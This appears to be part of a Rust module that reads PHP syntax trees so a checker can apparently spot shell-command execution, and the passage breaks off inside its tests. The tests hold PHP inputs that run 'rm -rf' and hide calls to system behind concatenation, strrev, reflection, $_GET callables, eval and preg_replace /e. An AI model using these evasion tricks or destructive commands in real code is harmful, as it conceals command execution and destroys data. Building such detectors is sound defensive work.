//! Reads PHP: the tree of its grammar becomes the tree that is followed.
//!
//! Variables and properties keep their `$`, so that they are never taken for functions, methods or constants.
//!
//! Source: the grammar tree-sitter-php 0.25, whose names of nodes and fields these are.

pub(super) mod library;

use std::rc::Rc;

use tree_sitter::Node;

use super::Value;
use super::code::read::{Reader, each, escape, fields, joined, named, number, text, unknown};
use super::code::tree::{Argument, Call, Class, Declares, Expr, Function, Parameter, Pattern, Stmt};

/// A method whose name is computed: the object, the name, and what it is given.
pub(super) const BY_NAME: &str = "@method";
/// A variable whose name is computed.
pub(super) const VARIABLE: &str = "@variable";
/// Gives a value to a variable whose name is computed.
pub(super) const SET_VARIABLE: &str = "@set_variable";
/// What a loop over an array goes through.
pub(super) const VALUES: &str = "@values";
/// The keys and values of an array.
pub(super) const PAIRS: &str = "@pairs";
/// The class that a method belongs to.
pub(super) const SELF: &str = "@self";
/// A method of the class above.
pub(super) const PARENT: &str = "@parent";

/// Reads a file, or what `php -r` is given.
pub(super) fn read(reader: &mut Reader<'_>, root: Node<'_>) -> Vec<Stmt> {
    block(reader, root)
}

fn block(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    // Functions and classes are there before the first statement runs.
    let (early, late): (Vec<Node<'_>>, Vec<Node<'_>>) = named(node).into_iter().partition(|child| {
        matches!(child.kind(), "function_definition" | "trait_declaration" | "enum_declaration")
            || child.kind() == "class_declaration"
                && named(*child).iter().all(|part| part.kind() != "base_clause")
    });
    early.into_iter().chain(late).flat_map(|child| statement(reader, child)).collect()
}

fn statement(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    reader.deeper(Vec::new(), |reader| statement_within(reader, node))
}

fn of_field(reader: &mut Reader<'_>, node: Node<'_>, name: &str) -> Vec<Stmt> {
    node.child_by_field_name(name).map(|child| part_of(reader, child)).unwrap_or_default()
}

fn name(name: &str) -> Expr {
    Expr::Name(name.to_owned())
}

fn call(callee: &str, arguments: Vec<Expr>) -> Expr {
    let arguments = arguments.into_iter().map(Argument::plain).collect();
    Expr::Call(Box::new(Call { callee: name(callee), arguments }))
}

/// The last part of a name with its namespace: what the code itself defines is known by that.
fn short(full: &str) -> &str {
    full.rsplit('\\').next().unwrap_or(full)
}

fn statement_within(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    match node.kind() {
        "expression_statement" => match named(node).as_slice() {
            [one] if one.kind() == "assignment_expression" => assignment(reader, *one),
            parts => each(parts.iter().map(|part| expression(reader, *part)).collect()),
        },
        "echo_statement" => {
            let parts = named(node).into_iter().flat_map(|part| sequence(reader, part)).collect();
            vec![Stmt::Do(call("echo", parts))]
        }
        "function_definition" => vec![Stmt::Function(function(reader, node))],
        "class_declaration" | "trait_declaration" | "enum_declaration" => {
            vec![Stmt::Class(class(reader, node))]
        }
        "interface_declaration"
        | "php_tag"
        | "php_end_tag"
        | "text"
        | "comment"
        | "goto_statement"
        | "named_label_statement"
        | "empty_statement"
        | "break_statement"
        | "continue_statement"
        | "text_interpolation"
        | "unset_statement" => Vec::new(),
        "if_statement" => {
            let mut all = vec![Stmt::Do(field(reader, node, "condition"))];
            let mut arms = vec![of_field(reader, node, "body")];
            let mut or_none = true;
            for other in fields(node, "alternative") {
                let mut arm = Vec::new();
                match other.child_by_field_name("condition") {
                    Some(condition) => arm.push(Stmt::Do(expression(reader, condition))),
                    None => or_none = false,
                }
                arm.extend(of_field(reader, other, "body"));
                arms.push(arm);
            }
            all.push(Stmt::Branch { arms, or_none });
            all
        }
        "foreach_statement" => foreach(reader, node),
        "for_statement" => {
            let mut all: Vec<Stmt> = fields(node, "initialize")
                .into_iter()
                .map(|part| Stmt::Do(expression(reader, part)))
                .collect();
            let mut body: Vec<Stmt> = Vec::new();
            body.extend(fields(node, "condition").into_iter().map(|part| Stmt::Do(expression(reader, part))));
            for part in fields(node, "body") {
                body.extend(part_of(reader, part));
            }
            body.extend(fields(node, "update").into_iter().map(|part| Stmt::Do(expression(reader, part))));
            all.push(Stmt::Loop { pattern: None, over: None, body });
            all
        }
        "while_statement" | "do_statement" => {
            let mut body = vec![Stmt::Do(field(reader, node, "condition"))];
            body.extend(of_field(reader, node, "body"));
            vec![Stmt::Loop { pattern: None, over: None, body }]
        }
        "try_statement" => {
            let mut all = of_field(reader, node, "body");
            let (mut arms, mut last) = (Vec::new(), Vec::new());
            for child in named(node) {
                match child.kind() {
                    "catch_clause" => {
                        let mut arm = Vec::new();
                        if let Some(variable) = reader.field(child, "name") {
                            let target = Pattern::Name(variable.to_owned());
                            arm.push(Stmt::Assign(target, unknown(), Declares::Here));
                        }
                        arm.extend(of_field(reader, child, "body"));
                        arms.push(arm);
                    }
                    "finally_clause" => last.extend(of_field(reader, child, "body")),
                    _ => {}
                }
            }
            if !arms.is_empty() {
                all.push(Stmt::Branch { arms, or_none: true });
            }
            all.extend(last);
            all
        }
        "switch_statement" => {
            let mut all = vec![Stmt::Do(field(reader, node, "condition"))];
            let mut arms = Vec::new();
            for case in node.child_by_field_name("body").map(named).unwrap_or_default() {
                arms.push(named(case).into_iter().flat_map(|part| part_of(reader, part)).collect());
            }
            all.push(Stmt::Branch { arms, or_none: true });
            all
        }
        "return_statement" => {
            let value = named(node).first().map(|value| expression(reader, *value));
            vec![Stmt::Return(value)]
        }
        "global_declaration" => {
            vec![Stmt::Outer(named(node).iter().map(|name| reader.of(*name).to_owned()).collect())]
        }
        "function_static_declaration" => named(node)
            .into_iter()
            .filter_map(|part| {
                let name = reader.field(part, "name")?.to_owned();
                let value = field(reader, part, "value");
                Some(Stmt::Assign(Pattern::Name(name), value, Declares::Here))
            })
            .collect(),
        "const_declaration" => constants(reader, node),
        "namespace_use_declaration" => imports(reader, node),
        "namespace_definition" => of_field(reader, node, "body"),
        "compound_statement" | "colon_block" | "program" => block(reader, node),
        _ => named(node).into_iter().flat_map(|child| part_of(reader, child)).collect(),
    }
}

/// A statement or an expression, whichever stands there.
fn part_of(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    let kind = node.kind();
    let is_statement = kind.ends_with("_statement")
        || kind.ends_with("_declaration")
        || matches!(kind, "colon_block" | "function_definition" | "namespace_definition" | "ERROR" | "text");
    if is_statement {
        return statement(reader, node);
    }
    vec![Stmt::Do(expression(reader, node))]
}

fn constants(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    let mut all = Vec::new();
    for element in named(node).into_iter().filter(|part| part.kind() == "const_element") {
        if let [own, value] = named(element).as_slice() {
            let target = Pattern::Name(reader.of(*own).to_owned());
            let value = expression(reader, *value);
            all.push(Stmt::Assign(target, value, Declares::Here));
        }
    }
    all
}

fn imports(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    let mut all = Vec::new();
    let mut prefix = String::new();
    let mut clauses: Vec<Node<'_>> = Vec::new();
    for part in named(node) {
        match part.kind() {
            "namespace_name" => prefix = format!("{}\\", reader.of(part)),
            "namespace_use_clause" => clauses.push(part),
            _ => {}
        }
    }
    clauses.extend(node.child_by_field_name("body").map(named).unwrap_or_default());
    for clause in clauses {
        let alias = reader.field(clause, "alias");
        let full = named(clause).first().map(|full| reader.of(*full)).unwrap_or_default();
        let full = format!("{prefix}{}", full.trim_start_matches('\\'));
        let own = alias.unwrap_or(short(&full)).to_owned();
        // Of what the code itself defines, nothing is known by its full name.
        all.push(Stmt::Import(own, full.replace('\\', ".")));
    }
    all
}

fn foreach(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    let body_node = node.child_by_field_name("body");
    let parts: Vec<Node<'_>> = named(node).into_iter().filter(|part| Some(*part) != body_node).collect();
    let [over, target, ..] = parts.as_slice() else { return Vec::new() };
    let over = expression(reader, *over);
    let (pattern, over) = match target.kind() {
        "pair" => {
            let both = named(*target).into_iter().map(|part| pattern(reader, part)).collect();
            (Pattern::Several(both), call(PAIRS, vec![over]))
        }
        _ => (pattern(reader, *target), call(VALUES, vec![over])),
    };
    let body = of_field(reader, node, "body");
    vec![Stmt::Loop { pattern: Some(pattern), over: Some(over), body }]
}

fn function(reader: &mut Reader<'_>, node: Node<'_>) -> Rc<Function> {
    let name = reader.field(node, "name").unwrap_or_default().to_owned();
    let mut parameters = Vec::new();
    let mut body = Vec::new();
    for part in node.child_by_field_name("parameters").map(named).unwrap_or_default() {
        let own = reader.field(part, "name").unwrap_or_default().trim_start_matches('&').to_owned();
        let default = part.child_by_field_name("default_value").map(|value| expression(reader, value));
        // `private string $dir`: a property of the same name.
        if part.kind() == "property_promotion_parameter" {
            let target = Pattern::Member(Box::new(self::name("$this")), own.clone());
            body.push(Stmt::Assign(target, Expr::Name(own.clone()), Declares::Here));
        }
        let rest = part.kind() == "variadic_parameter";
        parameters.push(Parameter { pattern: Pattern::Name(own), default, rest });
    }
    for clause in named(node).into_iter().filter(|part| part.kind() == "anonymous_function_use_clause") {
        let shared = named(clause)
            .into_iter()
            .filter(|part| part.kind() == "by_ref")
            .map(|part| reader.of(part).trim_start_matches(['&', ' ']).to_owned())
            .collect();
        body.push(Stmt::Outer(shared));
    }
    match node.child_by_field_name("body") {
        Some(inner) if inner.kind() == "compound_statement" => body.extend(block(reader, inner)),
        Some(inner) => {
            let value = expression(reader, inner);
            body.push(Stmt::Return(Some(value)));
        }
        None => {}
    }
    Rc::new(Function { name, parameters, body })
}

fn class(reader: &mut Reader<'_>, node: Node<'_>) -> Rc<Class> {
    let own = reader.field(node, "name").unwrap_or_default().to_owned();
    let mut bases = Vec::new();
    let mut body = Vec::new();
    for clause in named(node).into_iter().filter(|part| part.kind() == "base_clause") {
        bases.extend(named(clause).into_iter().map(|base| name(short(reader.of(base)))));
    }
    for part in node.child_by_field_name("body").map(named).unwrap_or_default() {
        match part.kind() {
            "method_declaration" => body.push(Stmt::Function(function(reader, part))),
            "property_declaration" => {
                for element in named(part).into_iter().filter(|part| part.kind() == "property_element") {
                    let Some(own) = reader.field(element, "name").map(str::to_owned) else { continue };
                    if let Some(value) = element.child_by_field_name("default_value") {
                        let value = expression(reader, value);
                        body.push(Stmt::Assign(Pattern::Name(own), value, Declares::Here));
                    }
                }
            }
            "const_declaration" => body.extend(constants(reader, part)),
            "enum_case" => {
                let Some(own) = reader.field(part, "name").map(str::to_owned) else { continue };
                let value = match part.child_by_field_name("value") {
                    Some(value) => expression(reader, value),
                    None => text(own.clone()),
                };
                // A case of an enumeration holds its value.
                let value = Expr::Map(vec![(text("value"), value), (text("name"), text(own.clone()))]);
                body.push(Stmt::Assign(Pattern::Name(own), value, Declares::Here));
            }
            "use_declaration" => {
                for used in named(part) {
                    if matches!(used.kind(), "name" | "qualified_name") {
                        bases.push(name(short(reader.of(used))));
                    }
                }
            }
            _ => {}
        }
    }
    Rc::new(Class { name: own, bases, body })
}

fn assignment(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
    let (Some(left), Some(right)) = (node.child_by_field_name("left"), node.child_by_field_name("right"))
    else {
        return Vec::new();
    };
    let value = expression(reader, right);
    assigned(reader, left, value)
}

fn assigned(reader: &mut Reader<'_>, left: Node<'_>, value: Expr) -> Vec<Stmt> {
    match left.kind() {
        // `$list[] = …`
        "subscript_expression" if named(left).len() == 1 => {
            let object = named(left).first().map_or_else(unknown, |object| expression(reader, *object));
            let callee = Expr::Member(Box::new(object), "push".to_owned());
            vec![Stmt::Do(Expr::Call(Box::new(Call { callee, arguments: vec![Argument::plain(value)] })))]
        }
        "dynamic_variable_name" => {
            let named = named(left).first().map_or_else(unknown, |inner| dynamic(reader, *inner));
            vec![Stmt::Do(call(SET_VARIABLE, vec![named, value]))]
        }
        _ => vec![Stmt::Assign(pattern(reader, left), value, Declares::Here)],
    }
}

/// The name of a variable that is computed.
fn dynamic(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    if node.kind() == "name" { text(reader.of(node)) } else { expression(reader, node) }
}

fn pattern(reader: &mut Reader<'_>, node: Node<'_>) -> Pattern {
    reader.deeper(Pattern::Nothing, |reader| match node.kind() {
        "variable_name" => Pattern::Name(reader.of(node).to_owned()),
        "by_ref" => named(node).first().map_or(Pattern::Nothing, |inner| pattern(reader, *inner)),
        "member_access_expression" | "nullsafe_member_access_expression" => {
            let object = field(reader, node, "object");
            match property(reader, node) {
                Ok(name) => Pattern::Member(Box::new(object), name),
                Err(key) => Pattern::Index(Box::new(object), Box::new(key)),
            }
        }
        "scoped_property_access_expression" => {
            let object = field(reader, node, "scope");
            Pattern::Member(Box::new(object), reader.field(node, "name").unwrap_or_default().to_owned())
        }
        "subscript_expression" => match named(node).as_slice() {
            [object, key] => {
                let (object, key) = (expression(reader, *object), expression(reader, *key));
                Pattern::Index(Box::new(object), Box::new(key))
            }
            _ => Pattern::Nothing,
        },
        "list_literal" | "array_creation_expression" => several(reader, node),
        _ => Pattern::Nothing,
    })
}

/// `[$a, $b]`, `['key' => $a]`
fn several(reader: &mut Reader<'_>, node: Node<'_>) -> Pattern {
    let mut cursor = node.walk();
    let children: Vec<Node<'_>> = node.children(&mut cursor).collect();
    if children.iter().any(|child| child.kind() == "=>") {
        let mut keys = Vec::new();
        let mut key = None;
        for child in children.iter().filter(|child| child.is_named() && !child.is_extra()) {
            match key.take() {
                None => key = Some(reader.of(*child).trim_matches(['"', '\'']).to_owned()),
                Some(own) => keys.push((own, pattern(reader, *child))),
            }
        }
        return Pattern::Keys(keys);
    }
    let mut all = Vec::new();
    let mut is_open = false;
    for child in children {
        match child.kind() {
            "," => {
                // `[, $b]`
                if is_open {
                    all.push(Pattern::Nothing);
                }
                is_open = true;
            }
            "[" | "(" => is_open = true,
            _ if child.is_named() && !child.is_extra() => {
                all.push(pattern(reader, child));
                is_open = false;
            }
            _ => {}
        }
    }
    Pattern::Several(all)
}

/// The name of a property, or what it is computed from.
fn property(reader: &mut Reader<'_>, node: Node<'_>) -> Result<String, Expr> {
    match node.child_by_field_name("name") {
        Some(own) if own.kind() == "name" => Ok(format!("${}", reader.of(own))),
        Some(own) => Err(expression(reader, own)),
        None => Err(unknown()),
    }
}

fn expression(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    reader.deeper(unknown(), |reader| expression_within(reader, node))
}

fn field(reader: &mut Reader<'_>, node: Node<'_>, name: &str) -> Expr {
    node.child_by_field_name(name).map_or_else(unknown, |node| expression(reader, node))
}

fn all(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Expr> {
    named(node).into_iter().map(|part| expression(reader, part)).collect()
}

fn sequence(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Expr> {
    match node.kind() {
        "sequence_expression" => all(reader, node),
        _ => vec![expression(reader, node)],
    }
}

/// The first expression below a node.
fn first(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    named(node).first().map_or_else(unknown, |inner| expression(reader, *inner))
}

fn arguments(reader: &mut Reader<'_>, list: Option<Node<'_>>) -> Vec<Argument> {
    let mut arguments = Vec::new();
    for part in list.map(named).unwrap_or_default() {
        if part.kind() != "argument" {
            continue;
        }
        let own = part.child_by_field_name("name");
        let name = own.map(|own| reader.of(own).to_owned());
        let value = named(part).into_iter().find(|inner| Some(*inner) != own);
        let Some(value) = value else { continue };
        let spread = value.kind() == "variadic_unpacking";
        // A parameter keeps its mark.
        let name = name.map(|name| format!("${name}"));
        let value = if spread { first(reader, value) } else { expression(reader, value) };
        arguments.push(Argument { name, spread, value });
    }
    arguments
}

/// `f(...)`: the function itself.
fn is_reference(node: Node<'_>) -> bool {
    let list = node.child_by_field_name("arguments");
    list.is_some_and(|list| named(list).iter().any(|part| part.kind() == "variadic_placeholder"))
}

fn called(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    let list = node.child_by_field_name("arguments");
    let (object, is_static) = match node.kind() {
        "scoped_call_expression" => (node.child_by_field_name("scope"), true),
        "function_call_expression" => {
            let callee = node.child_by_field_name("function");
            let callee = match callee {
                Some(own) if matches!(own.kind(), "name" | "qualified_name" | "relative_name") => {
                    name(short(reader.of(own)))
                }
                Some(own) => expression(reader, own),
                None => unknown(),
            };
            if is_reference(node) {
                return callee;
            }
            let arguments = arguments(reader, list);
            return Expr::Call(Box::new(Call { callee, arguments }));
        }
        _ => (node.child_by_field_name("object"), false),
    };
    let mut given = arguments(reader, list);
    let own = node.child_by_field_name("name");
    let parent = is_static && object.is_some_and(|object| reader.of(object) == "parent");
    let object = object.map_or_else(unknown, |object| scope(reader, object));
    match own {
        Some(own) if own.kind() == "name" => {
            let own = reader.of(own).to_owned();
            if parent {
                given.insert(0, Argument::plain(text(own)));
                return Expr::Call(Box::new(Call { callee: name(PARENT), arguments: given }));
            }
            let callee = Expr::Member(Box::new(object), own);
            if is_reference(node) {
                return callee;
            }
            Expr::Call(Box::new(Call { callee, arguments: given }))
        }
        Some(own) => {
            let own = expression(reader, own);
            given.insert(0, Argument::plain(object));
            given.insert(1, Argument::plain(own));
            Expr::Call(Box::new(Call { callee: name(BY_NAME), arguments: given }))
        }
        None => unknown(),
    }
}

/// What stands in front of `::` or `->`.
fn scope(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    match node.kind() {
        "relative_scope" => name(SELF),
        // `new static`
        "name" if matches!(reader.of(node), "static" | "self") => name(SELF),
        "name" | "qualified_name" | "relative_name" => name(short(reader.of(node))),
        _ => expression(reader, node),
    }
}

fn expression_within(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    match node.kind() {
        "variable_name" => name(reader.of(node)),
        "name" | "qualified_name" | "relative_name" => name(short(reader.of(node))),
        "relative_scope" => name(SELF),
        "dynamic_variable_name" => {
            let own = named(node).first().map_or_else(unknown, |inner| dynamic(reader, *inner));
            call(VARIABLE, vec![own])
        }
        "null" => unknown(),
        "boolean" => Expr::Number(i64::from(reader.of(node).eq_ignore_ascii_case("true"))),
        "integer" => number(reader.of(node)),
        "float" => unknown(),
        "string" => text(single(reader.of(node))),
        "encapsed_string" => joined(parts(reader, node, 0)),
        "heredoc" => heredoc(reader, node),
        "nowdoc" => heredoc(reader, node),
        "shell_command_expression" => Expr::Command(Box::new(joined(parts(reader, node, 0)))),
        "function_call_expression"
        | "member_call_expression"
        | "nullsafe_member_call_expression"
        | "scoped_call_expression" => called(reader, node),
        "object_creation_expression" => created(reader, node),
        "member_access_expression" | "nullsafe_member_access_expression" => {
            let object = field(reader, node, "object");
            match property(reader, node) {
                Ok(name) => Expr::Member(Box::new(object), name),
                Err(key) => Expr::Index(Box::new(object), Box::new(key)),
            }
        }
        "scoped_property_access_expression" => {
            let object =
                node.child_by_field_name("scope").map_or_else(unknown, |object| scope(reader, object));
            Expr::Member(Box::new(object), reader.field(node, "name").unwrap_or_default().to_owned())
        }
        "class_constant_access_expression" => match named(node).as_slice() {
            [object, own] if reader.of(*own) == "class" => match object.kind() {
                "name" | "qualified_name" => text(short(reader.of(*object))),
                _ => scope(reader, *object),
            },
            [object, own] => {
                let object = scope(reader, *object);
                match own.kind() {
                    "name" => Expr::Member(Box::new(object), reader.of(*own).to_owned()),
                    _ => {
                        let own = expression(reader, *own);
                        Expr::Index(Box::new(object), Box::new(own))
                    }
                }
            }
            _ => unknown(),
        },
        "subscript_expression" => match named(node).as_slice() {
            [object, key] => {
                let object = expression(reader, *object);
                let in_text = node.parent().is_some_and(|around| {
                    matches!(around.kind(), "encapsed_string" | "heredoc_body" | "shell_command_expression")
                });
                let key = match key.kind() {
                    "name" if in_text => text(reader.of(*key)),
                    _ => expression(reader, *key),
                };
                Expr::Index(Box::new(object), Box::new(key))
            }
            _ => Expr::Opaque(all(reader, node)),
        },
        "assignment_expression" | "reference_assignment_expression" => {
            let mut steps = assignment(reader, node);
            // `$a[] = x` is x.
            if matches!(steps.as_slice(), [Stmt::Do(_)]) {
                steps.push(Stmt::Do(field(reader, node, "right")));
            }
            Expr::Block(steps)
        }
        "augmented_assignment_expression" => {
            let Some(left) = node.child_by_field_name("left") else { return unknown() };
            let operator = reader.field(node, "operator").unwrap_or_default().to_owned();
            let (before, value) = (expression(reader, left), field(reader, node, "right"));
            let value = match operator.as_str() {
                ".=" => Expr::Joined(vec![before, value]),
                "??=" => Expr::Either(vec![before, value]),
                other => Expr::Binary(other.chars().next().unwrap_or('?'), Box::new(before), Box::new(value)),
            };
            Expr::Block(assigned(reader, left, value))
        }
        "binary_expression" => binary(reader, node),
        "unary_op_expression" => {
            match (reader.field(node, "operator"), named(node).last().map(|inner| expression(reader, *inner)))
            {
                (Some("-"), Some(Expr::Number(number))) => Expr::Number(number.wrapping_neg()),
                (Some("~"), Some(inner)) => call("~", vec![inner]),
                (_, inner) => Expr::Opaque(inner.into_iter().collect()),
            }
        }
        "conditional_expression" => {
            let condition = field(reader, node, "condition");
            let no = field(reader, node, "alternative");
            match node.child_by_field_name("body") {
                Some(yes) => {
                    let yes = expression(reader, yes);
                    Expr::Block(vec![Stmt::Do(condition), Stmt::Do(Expr::Either(vec![yes, no]))])
                }
                None => Expr::Either(vec![condition, no]),
            }
        }
        "match_expression" => {
            let mut steps = vec![Stmt::Do(field(reader, node, "condition"))];
            let mut values = Vec::new();
            for arm in node.child_by_field_name("body").map(named).unwrap_or_default() {
                if let Some(conditions) = arm.child_by_field_name("conditional_expressions") {
                    steps.extend(each(all(reader, conditions)));
                }
                values.push(field(reader, arm, "return_expression"));
            }
            steps.push(Stmt::Do(Expr::Either(values)));
            Expr::Block(steps)
        }
        "array_creation_expression" => array(reader, node),
        "anonymous_function" | "arrow_function" => Expr::Function(function(reader, node)),
        "include_expression"
        | "include_once_expression"
        | "require_expression"
        | "require_once_expression" => {
            let own = node.kind().trim_end_matches("_expression");
            call(own, vec![first(reader, node)])
        }
        "print_intrinsic" => call("echo", vec![first(reader, node)]),
        "cast_expression" => {
            let kind = reader.field(node, "type").unwrap_or_default().to_ascii_lowercase();
            let value = field(reader, node, "value");
            if kind.contains("int") { call("intval", vec![value]) } else { value }
        }
        "parenthesized_expression"
        | "error_suppression_expression"
        | "by_ref"
        | "clone_expression"
        | "variadic_unpacking"
        | "argument"
        | "throw_expression" => first(reader, node),
        "yield_expression" => {
            let value = first(reader, node);
            Expr::Block(vec![Stmt::Return(Some(Expr::List(vec![value])))])
        }
        "sequence_expression" => Expr::Block(each(all(reader, node))),
        "array_element_initializer" => Expr::Opaque(all(reader, node)),
        "update_expression" => {
            let Some(inner) = node.child_by_field_name("argument") else { return unknown() };
            let operator = if reader.of(node).contains("++") { '+' } else { '-' };
            let before = expression(reader, inner);
            let value = Expr::Binary(operator, Box::new(before), Box::new(Expr::Number(1)));
            Expr::Block(assigned(reader, inner, value))
        }
        "comment" | "text" | "php_tag" | "php_end_tag" | "text_interpolation" => unknown(),
        kind if kind.ends_with("_statement")
            || kind.ends_with("_declaration")
            || kind == "function_definition" =>
        {
            Expr::Block(statement(reader, node))
        }
        _ => Expr::Opaque(all(reader, node)),
    }
}

fn created(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    let parts = named(node);
    let Some(what) = parts.first().copied() else { return unknown() };
    if what.kind() == "anonymous_class" {
        let list = named(what).into_iter().find(|part| part.kind() == "arguments");
        let callee = Expr::Class(class(reader, what));
        let arguments = arguments(reader, list);
        return Expr::Call(Box::new(Call { callee, arguments }));
    }
    let callee = scope(reader, what);
    let list = parts.into_iter().find(|part| part.kind() == "arguments");
    let arguments = arguments(reader, list);
    Expr::Call(Box::new(Call { callee, arguments }))
}

fn binary(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    let operator = reader.field(node, "operator").unwrap_or_default().to_ascii_lowercase();
    // A long row of `.` is one text, however deep it lies in the tree.
    if operator == "." {
        let mut operands = Vec::new();
        let mut at = node;
        loop {
            operands.extend(at.child_by_field_name("right"));
            let Some(left) = at.child_by_field_name("left") else { break };
            let again = left.kind() == "binary_expression" && reader.field(left, "operator") == Some(".");
            if !again {
                operands.push(left);
                break;
            }
            at = left;
        }
        return Expr::Joined(operands.into_iter().rev().map(|part| expression(reader, part)).collect());
    }
    let (left, right) = (field(reader, node, "left"), field(reader, node, "right"));
    match operator.as_str() {
        "||" | "or" | "??" => Expr::Either(vec![left, right]),
        "&&" | "and" => Expr::Block(vec![Stmt::Do(left), Stmt::Do(right)]),
        "+" | "-" | "*" | "/" | "%" | "^" | "|" | "&" | "<<" | ">>" => {
            Expr::Binary(operator.chars().next().unwrap_or('?'), Box::new(left), Box::new(right))
        }
        _ => Expr::Opaque(vec![left, right]),
    }
}

fn array(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    let elements: Vec<Node<'_>> =
        named(node).into_iter().filter(|part| part.kind() == "array_element_initializer").collect();
    let keyed = elements.iter().any(|part| named(*part).len() > 1);
    let mut pairs = Vec::new();
    let mut whole = Expr::List(Vec::new());
    let mut plain = Vec::new();
    for (at, element) in elements.into_iter().enumerate() {
        match named(element).as_slice() {
            [key, value] => pairs.push((expression(reader, *key), expression(reader, *value))),
            [spread] if spread.kind() == "variadic_unpacking" => {
                let more = first(reader, *spread);
                let before = Expr::List(std::mem::take(&mut plain));
                whole = Expr::Binary('+', Box::new(whole), Box::new(before));
                whole = Expr::Binary('+', Box::new(whole), Box::new(more));
            }
            [value] if keyed => {
                let at = i64::try_from(at).unwrap_or(i64::MAX);
                pairs.push((Expr::Number(at), expression(reader, *value)));
            }
            [value] => plain.push(expression(reader, *value)),
            _ => {}
        }
    }
    if keyed {
        return Expr::Map(pairs);
    }
    match whole {
        Expr::List(own) if own.is_empty() => Expr::List(plain),
        whole if plain.is_empty() => whole,
        whole => Expr::Binary('+', Box::new(whole), Box::new(Expr::List(plain))),
    }
}

/// A text between single quotes, where only these and `\` can be escaped.
fn single(raw: &str) -> String {
    let inner = raw.trim_start_matches(['b', 'B']);
    let inner = inner.strip_prefix('\'').unwrap_or(inner);
    let inner = inner.strip_suffix('\'').unwrap_or(inner);
    let mut value = String::new();
    let mut letters = inner.chars().peekable();
    while let Some(letter) = letters.next() {
        match (letter, letters.peek()) {
            ('\\', Some(next @ ('\'' | '\\'))) => {
                value.push(*next);
                letters.next();
            }
            _ => value.push(letter),
        }
    }
    value
}

/// The parts of a text; of a heredoc, `indent` letters of each line go.
fn parts(reader: &mut Reader<'_>, node: Node<'_>, indent: usize) -> Vec<Expr> {
    let mut parts = Vec::new();
    let mut value = String::new();
    let in_heredoc = node.kind() == "heredoc_body" || node.kind() == "nowdoc_body";
    let children = named(node);
    let mut end = children.first().map_or(node.start_byte(), Node::start_byte);
    for child in children {
        // The grammar leaves line ends out.
        if in_heredoc {
            let gap = reader.text.get(end..child.start_byte()).unwrap_or_default();
            value.extend(gap.chars().filter(|letter| *letter == '\n'));
        }
        end = child.end_byte();
        match child.kind() {
            "escape_sequence" => value.push_str(&escape(reader.of(child))),
            "string_content" | "nowdoc_string" => {
                let own = reader.of(child);
                let starts_line =
                    reader.text.get(..child.start_byte()).is_some_and(|before| before.ends_with('\n'));
                for (at, line) in own.split_inclusive('\n').enumerate() {
                    let spaces = line.len() - line.trim_start_matches([' ', '\t']).len();
                    let gone = if at > 0 || starts_line { spaces.min(indent) } else { 0 };
                    value.push_str(line.get(gone..).unwrap_or(line));
                }
            }
            _ => {
                if !value.is_empty() {
                    parts.push(Expr::Text(Value::literal(std::mem::take(&mut value))));
                }
                parts.push(expression(reader, child));
            }
        }
    }
    if !value.is_empty() {
        parts.push(Expr::Text(Value::literal(value)));
    }
    parts
}

fn heredoc(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
    let indent = node.child_by_field_name("end_tag").map_or(0, |end| {
        let before = reader.text.get(..end.start_byte()).unwrap_or_default();
        let line = before.rsplit('\n').next().unwrap_or_default();
        line.len() - line.trim_start().len() + reader.of(end).len() - reader.of(end).trim_start().len()
    });
    match node.child_by_field_name("value") {
        Some(body) => joined(parts(reader, body, indent)),
        None => text(""),
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::check;

    #[test]
    fn calls() {
        check(
            "php",
            &[
                ("echo 1;", "read-only"),
                ("system('rm x');", "sh rm x"),
                ("<?php SYSTEM('rm x');", "sh rm x"),
                ("<?php \\exec('rm x', $out, $code);", "sh rm x"),
                ("<?php echo `rm x`;", "sh rm x"),
                ("<p><?= `rm $x` ?></p>", "sh rm …"),
                ("<?php proc_open(['rm', 'x'], [], $p);", "argv rm x"),
                ("<?php pcntl_exec('/bin/rm', ['-rf', 'x']);", "argv /bin/rm -rf x"),
                ("<?php $f = 'sys' . 'tem'; $f('x');", "obfuscated; sh x"),
                ("<?php ('sys' . 'tem')('x');", "obfuscated; sh x"),
                ("<?php $f = 'str' . 'rev'; echo $f('x');", "code.snippet"),
                ("<?php array_map('shell_exec', ['x', 'y']);", "sh x; sh y"),
                ("<?php call_user_func(strrev('metsys'), 'x');", "obfuscated; sh x"),
                ("<?php call_user_func_array('system', ['x']);", "sh x"),
                ("<?php $s = system(...); $s('x');", "sh x"),
                ("<?php (new ReflectionFunction('system'))->invoke('x');", "obfuscated; sh x"),
                ("<?php eval('system(1);');", "php system(1);"),
                ("<?php $_GET['f']('x');", "obfuscated"),
                ("<?php assert(1 === 1);", "code.snippet"),
                ("<?php preg_replace('/x/e', 'system(1)', 'x');", "php system(1)"),
            ],
        );
    }

    #[test]
    fn values() {
        check(
            "php",
            &[
                ("<?php $a = 'x'; system(\"rm {$a} $a[0]\");", "sh rm x x"),
                ("<?php $a = <<<E\n  rm $b\n  x\n  E; system($a);", "sh rm …\nx"),
                ("<?php $a = ['k' => 'x']; foreach ($a as $k => $v) system($v . $k);", "sh xk"),
                ("<?php $a = []; $a[] = 'r'; $a[] = 'm'; system(implode('', $a));", "sh rm"),
                ("<?php extract(['c' => 'x']); system($c);", "sh x"),
                ("<?php $n = 'c'; $$n = 'x'; system($c);", "sh x"),
